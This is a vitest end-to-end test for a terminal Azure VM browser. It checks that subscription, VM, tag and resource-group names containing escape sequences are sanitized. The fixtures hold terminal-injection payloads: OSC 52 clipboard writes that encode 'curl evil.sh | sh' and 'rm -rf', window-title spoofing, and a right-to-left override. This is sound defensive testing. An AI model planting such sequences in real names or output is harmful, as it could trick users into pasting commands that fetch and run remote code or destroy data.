import {mkdtempSync, readFileSync, rmSync, writeFileSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join, resolve} from 'node:path';
import {afterEach, describe, expect, it} from 'vitest';
import {VmuxPty} from './pty-driver.js';

const ESC = '\x1b';
const BEL = '\x07';
/** The example: a VM whose name sets the user's clipboard and window title. */
const EVIL_NAME = `evil${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${BEL}${ESC}]0;PWNED${BEL}-01`;
const EVIL_SUBSCRIPTION = `Contoso${ESC}]2;PWNED-TOO${BEL}\u202E Prod`;
/** Generous: the demo lab starts slowly on a loaded machine; waits end as soon as the screen shows it. */
const SLOW = 60_000;

/**
 * The demo topology with a subscription name and a tag carrying escape sequences. (VM names with control
 * characters are refused by the lab's topology check, as Azure refuses them; the cache case covers names.)
 */
function evilTopology(dir: string): string {
	const topology = JSON.parse(readFileSync(resolve('source/lab/assets/topology/demo-topology.json'), 'utf8')) as {
		subscriptions: Array<{displayName: string}>;
		resources: Array<{type?: string; name?: string; tags?: Record<string, string>}>;
	};
	const jump = topology.resources.find(resource => resource.type === 'Microsoft.Compute/virtualMachines' && resource.name === 'jump-01');
	if (!jump) throw new Error('the demo topology has no jump-01');
	jump.tags = {...jump.tags, owner: `${ESC}]52;c;cm0gLXJm${BEL}`};
	topology.subscriptions[1]!.displayName = EVIL_SUBSCRIPTION;
	const file = join(dir, 'evil-topology.json');
	writeFileSync(file, JSON.stringify(topology));
	return file;
}

describe('names carrying escape sequences (real PTY, raw output)', () => {
	let vmux: VmuxPty | undefined;
	let dir: string | undefined;
	afterEach(() => {
		vmux?.dispose();
		vmux = undefined;
		if (dir) rmSync(dir, {recursive: true, force: true});
		dir = undefined;
	});

	it('an evil subscription name and tag from Azure never reach the terminal as OSC 52 / OSC 0 and show as plain text', async () => {
		dir = mkdtempSync(join(tmpdir(), 'vmux-e2e-evil-'));
		vmux = new VmuxPty(['--demo', '--lab-topology', evilTopology(dir)]);
		// The subscription column shows the sanitized name.
		await vmux.waitFor('Contoso Prod', SLOW);
		await vmux.waitFor('jump-01', SLOW);
		const raw = vmux.raw;
		expect(raw).not.toContain(`${ESC}]52`);
		expect(raw).not.toContain(`${ESC}]0;`);
		expect(raw).not.toContain(`${ESC}]2;`);
		expect(raw).not.toContain('\u202E');
		expect(raw).not.toContain('\x9b');
		expect(vmux.screen()).not.toContain('PWNED');
	}, 3 * SLOW);

	it('an evil VM name in the inventory cache never reaches the terminal, in the first frame or after', async () => {
		dir = mkdtempSync(join(tmpdir(), 'vmux-e2e-evil-cache-'));
		const vm = {
			id: '/subscriptions/s1/resourceGroups/rg-evil/providers/Microsoft.Compute/virtualMachines/evil-01',
			name: EVIL_NAME,
			subscriptionId: 's1',
			subscriptionName: EVIL_SUBSCRIPTION,
			resourceGroup: `rg${ESC}[2J-evil`,
			location: 'westeurope',
			powerState: 'running',
			privateIp: '10.9.9.9',
			tags: {owner: `${ESC}]52;c;cm0gLXJm${BEL}`},
		};
		const now = Date.now();
		const cache = {version: 1, tenant: 'default', savedAt: now, inventory: {fetchedAt: now, source: 'azure-arm', subscriptions: [{id: 's1', name: EVIL_SUBSCRIPTION}], vms: [vm]}};
		writeFileSync(join(dir, 'inventory-default.json'), JSON.stringify(cache), {mode: 0o600});
		// No Azure here: the cached list is what the user sees (the splash first, then the browser).
		vmux = new VmuxPty([], {configDir: dir, env: {AZURE_CONFIG_DIR: join(dir, 'no-az')}});
		await vmux.waitFor('evil-01', SLOW);
		await vmux.waitFor(/^▸ evil-01 /m, SLOW);
		const raw = vmux.raw;
		expect(raw).not.toContain(`${ESC}]52`);
		expect(raw).not.toContain(`${ESC}]0;`);
		expect(raw).not.toContain(`${ESC}]2;`);
		expect(raw).not.toContain('\u202E');
		expect(vmux.screen()).not.toContain('PWNED');
		expect(vmux.screen()).toContain('rg-evil');
	}, 3 * SLOW);
});
